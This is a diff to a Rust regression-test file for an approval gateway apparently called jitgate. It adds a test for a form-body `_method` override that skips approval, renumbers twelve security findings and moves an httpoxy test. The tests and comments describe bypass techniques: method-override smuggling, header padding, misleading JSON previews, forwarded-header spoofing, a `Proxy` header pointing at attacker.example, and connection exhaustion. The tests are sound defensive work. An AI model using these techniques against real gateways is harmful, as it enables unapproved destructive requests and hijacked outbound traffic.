@@ -4,6 +4,21 @@
 //! - **FINDING n** — it fails on the code this round was run against and passes once the
 //!   finding is fixed (it asserts the secure behaviour);
 //! - **WITHSTOOD** — an attack the gateway resisted; kept because it adds coverage.
+//!
+//! Findings, by test:
+//! 1. `form_body_override_is_read_when_an_allow_route_with_methods_matches_first`
+//! 2. `body_method_override_in_bodies_frameworks_read_as_forms_is_not_forwarded`
+//! 3. `json_method_override_the_gateway_cannot_parse_is_not_forwarded`
+//! 4. `method_override_parameter_names_truncated_at_nul_are_not_forwarded`
+//! 5. `multipart_body_with_a_second_boundary_php_reads_is_not_forwarded`
+//! 6. `approvers_see_every_header_the_released_request_carries`
+//! 7. `body_preview_shows_the_values_the_body_carries`
+//! 8. `forwarding_headers_of_untrusted_peers_never_reach_the_upstream` (8a),
+//!    `resumed_request_cannot_add_forwarded_host_the_approver_never_saw` (8b)
+//! 9. `httpoxy_proxy_header_never_reaches_the_upstream`
+//! 10. `unauthenticated_idle_h2_connections_do_not_lock_approvers_out`
+//! 11. `one_requester_cannot_use_up_every_pending_slot`
+//! 12. `approvers_pending_list_is_not_crowded_out_by_tickets_they_cannot_see`
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
@@ -93,9 +108,84 @@ async fn assert_none_forwarded(gw: &Gateway, origin: &Origin, cases: &[Case<'_>]
     );
 }
 
-// === FINDING 1: `_method` in bodies the gateway does not classify as forms ===
+// === `_method` overrides the gateway does not read (deny and approve routes bypassed) ===
 
-/// **FINDING 1** (`_method` body override, content-type classification). The gateway reads a
+/// **FINDING 1** (`_method` in a form body is not read when an *allow* route with a method
+/// list matches first). `RuleTable::may_override_method` reads a form body only when an
+/// `approve`/`deny` route *before* the route the request resolves to could match with
+/// another method. But an allow route must match *every* method reading, so an override
+/// found in the body can also disqualify the allow route the request resolved to and hand it
+/// to a restricting route *after* it. The most natural table is exposed: "GET and POST on
+/// `/api/**` pass, every other method needs approval". `POST ...?_method=DELETE` is held
+/// (the query is read), but the same override in the form body (the spelling Rails forms
+/// send) is forwarded at once, and the upstream deletes without approval.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn form_body_override_is_read_when_an_allow_route_with_methods_matches_first() {
+    let origin = Origin::start();
+    let routes = r#"[[routes]]
+name = "api-read-create"
+methods = ["GET", "POST"]
+path = "/api/**"
+upstream = "origin"
+action = "allow"
+
+[[routes]]
+name = "api-change"
+path = "/api/**"
+upstream = "origin"
+action = "approve"
+[routes.approval]
+approvers = ["group:oncall"]"#;
+    let gw = Gateway::start(&config(
+        &origin.url(),
+        "",
+        "[approvals]\nhold_timeout = \"300ms\"",
+        "",
+        routes,
+    ));
+    let form = ("content-type", "application/x-www-form-urlencoded");
+    // The query spelling is read: held as POST+DELETE.
+    let q = send(
+        "POST",
+        &gw.url("/api/items/1?_method=DELETE"),
+        &[BOB[0], BOB[1]],
+        "",
+    )
+    .await;
+    problem(&q, 202, "query override: held");
+    // A form without an override is an ordinary POST.
+    let plain = send(
+        "POST",
+        &gw.url("/api/items"),
+        &[BOB[0], BOB[1], form],
+        "name=widget",
+    )
+    .await;
+    assert_eq!(plain.status, 200, "{}", plain.text());
+    assert_eq!(origin.wait_for(1, WAIT).await.len(), 1);
+
+    let resp = send(
+        "POST",
+        &gw.url("/api/items/1"),
+        &[BOB[0], BOB[1], form],
+        "_method=DELETE",
+    )
+    .await;
+    origin
+        .assert_no_new_requests(Duration::from_millis(150))
+        .await;
+    assert_eq!(
+        origin.count(),
+        1,
+        "POST /api/items/1 with `_method=DELETE` in its form body reached the upstream without \
+         approval (gateway answered {}: {})",
+        resp.status,
+        resp.text()
+    );
+    assert_eq!(resp.status, 202, "{}", resp.text());
+}
+
+/// **FINDING 2** (`_method` body override, content-type classification). The gateway reads a
 /// POST body for `_method` only when its `Content-Type` is exactly
 /// `application/x-www-form-urlencoded`, `multipart/form-data` or `application/json` /
 /// `application/*+json` (media type split at `;` only). The frameworks that honour `_method`
@@ -177,7 +267,7 @@ async fn body_method_override_in_bodies_frameworks_read_as_forms_is_not_forwarde
     assert_none_forwarded(&gw, &origin, &cases).await;
 }
 
-/// **FINDING 2** (`_method` body override, fail-open on an unparsable JSON body). A JSON body
+/// **FINDING 3** (`_method` body override, fail-open on an unparsable JSON body). A JSON body
 /// is searched for `_method` only if `serde_json` parses it; when it does not, the body is
 /// treated as having no override and forwarded. `serde_json` stops at 128 levels of nesting,
 /// PHP's `json_decode` (Laravel) allows 512, so `{"_method":"DELETE","x":[[[...]]]}` with 200
@@ -205,7 +295,7 @@ async fn json_method_override_the_gateway_cannot_parse_is_not_forwarded() {
     assert_none_forwarded(&gw, &origin, &cases).await;
 }
 
-/// **FINDING 3** (`_method` parameter names PHP truncates at NUL). PHP registers request
+/// **FINDING 4** (`_method` parameter names PHP truncates at NUL). PHP registers request
 /// variables by C string (`php_register_variable_ex` takes `strlen` of the decoded name), so
 /// `_method%00` and `_method%00anything` are `$_GET['_method']` / `$_POST['_method']`, which
 /// Symfony's and Laravel's `getMethod()` honour on a POST. The gateway requires the decoded
@@ -240,7 +330,7 @@ async fn method_override_parameter_names_truncated_at_nul_are_not_forwarded() {
     assert_none_forwarded(&gw, &origin, &cases).await;
 }
 
-/// **FINDING 4** (multipart boundary read differently from PHP). The gateway takes the
+/// **FINDING 5** (multipart boundary read differently from PHP). The gateway takes the
 /// `boundary` parameter whose name is exactly `boundary`; PHP's `rfc1867` handler takes the
 /// first occurrence of the *substring* `boundary` in the header (`strstr`), e.g. inside
 /// `xboundary=`. A body framed by both boundaries shows the gateway a harmless field and PHP
@@ -330,7 +420,7 @@ fn shown_headers(t: &serde_json::Value) -> Vec<(String, String)> {
         .collect()
 }
 
-/// **FINDING 5** (approvers see only the first 64 bound headers). SPEC 6: "Approvers see the
+/// **FINDING 6** (approvers see only the first 64 bound headers). SPEC 6: "Approvers see the
 /// bound headers (secrets redacted)"; SPEC 11.7: an approval releases only what the approver
 /// saw. The ticket keeps at most 64 of the bound headers (sorted by name) and says nothing
 /// about the rest, although every one is bound and forwarded. 64 harmless `a-pad-NN` headers
@@ -383,7 +473,7 @@ async fn approvers_see_every_header_the_released_request_carries() {
     );
 }
 
-/// **FINDING 6** (the body preview is a re-rendering that can show other values than the
+/// **FINDING 7** (the body preview is a re-rendering that can show other values than the
 /// body carries). A JSON body is parsed into `serde_json::Value` and printed again: duplicate
 /// keys collapse to the last one and integers beyond 64 bits become rounded floats. Approvers
 /// are shown `{"replicas":1}` for a body whose first `replicas` is 1000 (the value of
@@ -428,7 +518,7 @@ fn untrusted_config(origin: &Origin) -> String {
     )
 }
 
-/// **FINDING 7a** (forwarding headers from an untrusted peer reach the upstream). README:
+/// **FINDING 8a** (forwarding headers from an untrusted peer reach the upstream). README:
 /// "from an untrusted peer, `Forwarded`, `X-Forwarded-*`, `X-Real-IP`, ... are dropped".
 /// Only `X-Forwarded-For/-Proto/-Host` and `Forwarded` are: `X-Forwarded-Port`,
 /// `X-Forwarded-Ssl`, `X-Forwarded-Scheme` and `X-Forwarded-Server` from any client reach the
@@ -468,7 +558,7 @@ async fn forwarding_headers_of_untrusted_peers_never_reach_the_upstream() {
     );
 }
 
-/// **FINDING 7b** (trusted-peer `Forwarded` is neither vetted nor bound). The gateway always
+/// **FINDING 8b** (trusted-peer `Forwarded` is neither vetted nor bound). The gateway always
 /// replaces `X-Forwarded-Host` with the canonical host ("the upstream must not act on a host
 /// the rules never saw"), but passes a trusted peer's `Forwarded` (`host=`, `proto=`) and
 /// `X-Forwarded-Proto` through untouched, and both are in the volatile set an approval does
@@ -513,6 +603,33 @@ async fn resumed_request_cannot_add_forwarded_host_the_approver_never_saw() {
     }
 }
 
+/// **FINDING 9** (httpoxy: the `Proxy` request header is forwarded). CGI, and servers that
+/// copy headers into a CGI-style environment, expose `Proxy` as `HTTP_PROXY`, which many HTTP
+/// client libraries of the upstream application then use as their outbound proxy
+/// (CVE-2016-5385/5386/5387/1000109, "httpoxy"): a client points the application's
+/// outbound calls at itself. The usual mitigation is the front proxy dropping `Proxy` (nginx
+/// `proxy_set_header Proxy ""`, Apache `RequestHeader unset Proxy`); jitgate drops 50
+/// path-override names and `_` names for the same reason but forwards `Proxy`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn httpoxy_proxy_header_never_reaches_the_upstream() {
+    let origin = Origin::start();
+    let gw = Gateway::start(&config(&origin.url(), "", "", "", ALLOW_REST));
+    let resp = send(
+        "GET",
+        &gw.url("/cgi-bin/report"),
+        &[("proxy", "http://attacker.example:8080")],
+        "",
+    )
+    .await;
+    assert_eq!(resp.status, 200, "{}", resp.text());
+    let got = &origin.wait_for(1, WAIT).await[0];
+    assert!(
+        got.header("proxy").is_none(),
+        "the upstream received Proxy: {:?}",
+        got.header_str("proxy")
+    );
+}
+
 // === availability of approvers ===
 
 /// An h2c client that has made one unauthenticated request (`GET /healthz`) on the admin
@@ -524,7 +641,7 @@ async fn squat(gw: &Gateway) -> Client {
     c
 }
 
-/// **FINDING 8** (the admin plane's 64 connections can be held by anyone, unauthenticated).
+/// **FINDING 10** (the admin plane's 64 connections can be held by anyone, unauthenticated).
 /// The admin plane accepts at most 64 connections and queues the rest in the backlog. An h2c
 /// connection that has made one request is kept for as long as its client answers PINGs,
 /// whatever `header_read_timeout` says, and `/healthz` needs no credential: 64 such
@@ -574,7 +691,7 @@ async fn unauthenticated_idle_h2_connections_do_not_lock_approvers_out() {
     );
 }
 
-/// **FINDING 9** (one authenticated requester can use up `max_pending` for everyone). The
+/// **FINDING 11** (one authenticated requester can use up `max_pending` for everyone). The
 /// overall cap `[approvals] max_pending` (default 10000) counts every pending ticket; the
 /// per-source cap applies to anonymous requesters only and `max_pending_per_requester` is
 /// unset by default (and per route). One authenticated requester opening `max_pending`
@@ -621,13 +738,13 @@ approvers = ["group:oncall"]
         .await;
 }
 
-/// **FINDING 10** (an approver's pending list can come back empty while tickets they may decide
+/// **FINDING 12** (an approver's pending list can come back empty while tickets they may decide
 /// are pending). `GET /v1/tickets` reads `limit × 4` tickets store-wide (soonest to expire
 /// first for `PENDING`) and only then drops those the caller may not see; there is no cursor.
 /// Tickets opened earlier on routes the approver does not decide push theirs out of the page:
 /// here eight tickets on `other` (approvers: platform) leave alice (oncall) an empty list
 /// although bob's ticket on `deploy`, which she may decide, is pending. With the default
-/// `limit` of 100, 400 earlier pending tickets do it (see finding 9: one requester may open
+/// `limit` of 100, 400 earlier pending tickets do it (see finding 11: one requester may open
 /// that many).
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn approvers_pending_list_is_not_crowded_out_by_tickets_they_cannot_see() {
@@ -913,32 +1030,5 @@ async fn h2_request_trailers_of_a_held_request_are_not_released() {
     assert!(
         got.header("x-role").is_none() && got.trailers.iter().all(|(n, _)| n != "x-role"),
         "{got:?}"
-    );
-}
-
-/// **FINDING 11** (httpoxy: the `Proxy` request header is forwarded). CGI, and servers that
-/// copy headers into a CGI-style environment, expose `Proxy` as `HTTP_PROXY`, which many HTTP
-/// client libraries of the upstream application then use as their outbound proxy
-/// (CVE-2016-5385/5386/5387/1000109, "httpoxy"): a client points the application's
-/// outbound calls at itself. The usual mitigation is the front proxy dropping `Proxy` (nginx
-/// `proxy_set_header Proxy ""`, Apache `RequestHeader unset Proxy`); jitgate drops 50
-/// path-override names and `_` names for the same reason but forwards `Proxy`.
-#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
-async fn httpoxy_proxy_header_never_reaches_the_upstream() {
-    let origin = Origin::start();
-    let gw = Gateway::start(&config(&origin.url(), "", "", "", ALLOW_REST));
-    let resp = send(
-        "GET",
-        &gw.url("/cgi-bin/report"),
-        &[("proxy", "http://attacker.example:8080")],
-        "",
-    )
-    .await;
-    assert_eq!(resp.status, 200, "{}", resp.text());
-    let got = &origin.wait_for(1, WAIT).await[0];
-    assert!(
-        got.header("proxy").is_none(),
-        "the upstream received Proxy: {:?}",
-        got.header_str("proxy")
     );
 }
